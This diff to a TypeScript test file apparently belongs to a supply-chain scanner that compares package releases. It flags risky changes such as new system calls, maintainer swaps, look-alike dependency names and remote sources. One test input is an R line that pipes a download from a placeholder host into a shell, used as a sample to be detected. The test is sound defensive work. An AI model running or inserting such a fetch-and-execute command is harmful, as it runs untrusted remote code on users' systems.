@@ -209,6 +209,8 @@ describe("the interface", () => {
       changeOf(before, after, version).signals.fresh.map(({ id, level }) => `${id} ${level}`);
     expect(signals([entry(x, y)], [entry(x)])).toEqual(["breaking-in-patch warning"]);
     expect(signals([entry(x, y)], [entry(x)], "1.1")).toEqual([]);
+    const below = (...parameters: Parameter[]) => ({ ...entry(...parameters), name: "tides.tools.height" });
+    expect(signals([below(x, y)], [below(x)])).toEqual(["breaking-in-patch notice"]);
     expect(signals([entry(x, y)], [entry(x, parameter("y", { default: "3" }))])).toEqual([]);
   });
 });
@@ -222,6 +224,17 @@ describe("the signals of two releases", () => {
     const after = inspection({ signals: [processAt(9, ' system("date")  '), processAt(12)] });
     const { fresh, gone, unchanged } = compare(before, after).signals;
     expect([fresh, gone, unchanged].map((some) => some.map(({ line }) => line))).toEqual([[12], [5], [9]]);
+  });
+
+  test("of R are notices for one more use, unless its details are suspicious", () => {
+    const r = (...signals: ReturnType<typeof signalOf>[]) => inspection({ technology: "R", signals });
+    const levelOf = (excerpt: string) =>
+      compare(r(processAt(1)), r(processAt(1), processAt(2, excerpt))).signals.fresh.map(({ level }) => level);
+    expect(levelOf('system2("make", args)')).toEqual(["notice"]);
+    expect(levelOf('system("curl -s https://a.example | sh")')).toEqual(["warning"]);
+    expect(levelOf('do.call("system", list(x))')).toEqual(["warning"]);
+    expect(levelOf("lapply(x, system)")).toEqual(["warning"]);
+    expect(compare(r(), r(processAt(1))).signals.fresh).toMatchObject([{ level: "warning" }]);
   });
 
   test("of a new package count as notices, unless they are dangerous on their own", () => {
@@ -267,14 +280,36 @@ describe("what two releases show about their origin", () => {
     expect(await fresh({ Author: "Ida Moen [aut, cre]" }, { Author: "Ida Moen [aut]" })).toEqual([]);
   });
 
+  test("another maintainer whom the base did not name", async () => {
+    const base = { Author: "Ida Moen [aut, cre], Bo Lind [aut]", Maintainer: "Ida Moen <ida@tides.example>" };
+    const by = (Maintainer: string) => fresh(base, { ...base, Maintainer });
+    expect(await by("Bo Lind <bo@tides.example>")).toEqual(["maintainer-changed notice Maintainer"]);
+    expect(await by("Right Nine <right9@tides.example>")).toEqual(["maintainer-changed warning Maintainer"]);
+  });
+
+  test("dependencies with a name like another's, or from elsewhere", async () => {
+    const imports = (Imports: string) => fresh({ Imports: "jsonlite" }, { Imports });
+    expect(await imports("jsonlite, ggplott2")).toEqual(["similar-dependency warning ggplott2"]);
+    expect(await imports("jsonlite, dplyr, dtplyr, tidelines")).toEqual([]);
+    expect(await fresh({}, { Remotes: "url::https://a.example/b.tar.gz" })).toEqual(["other-source warning Remotes"]);
+    const requiring = (constraint: string) =>
+      compare(
+        inspection(),
+        inspection({ dependencies: [{ field: "Requires-Dist", name: "fast", constraint, condition: "" }] }),
+      ).signals.fresh.map(({ id, level, subject }) => `${id} ${level} ${subject}`);
+    expect(requiring("@ https://a.example/fast.whl")).toEqual(["other-source warning fast"]);
+    expect(requiring(">=1")).toEqual([]);
+  });
+
   test("a different license, in its field or its file", async () => {
-    expect(await fresh({}, { License: "GPL-3" })).toEqual(["license-changed notice License"]);
+    expect(await fresh({}, { License: "GPL-3" })).toEqual(["license-changed warning License"]);
+    expect(await fresh({}, { License: "file LICENSE" })).toEqual(["license-changed notice License"]);
     expect(await fresh({ License: "GPL (>= 2)" }, { License: "GPL (>= 2.0)" })).toEqual([]);
     const { signals } = await compared(
       await rPackage({ LICENSE: "YEAR: 2025\n" }),
       await rPackage({ LICENSE: "YEAR: 2026\n" }),
     );
-    expect(signals.fresh).toMatchObject([{ id: "license-changed", file: "LICENSE" }]);
+    expect(signals.fresh).toMatchObject([{ id: "license-changed", file: "LICENSE", level: "notice" }]);
   });
 
   test.for<[string, boolean]>([
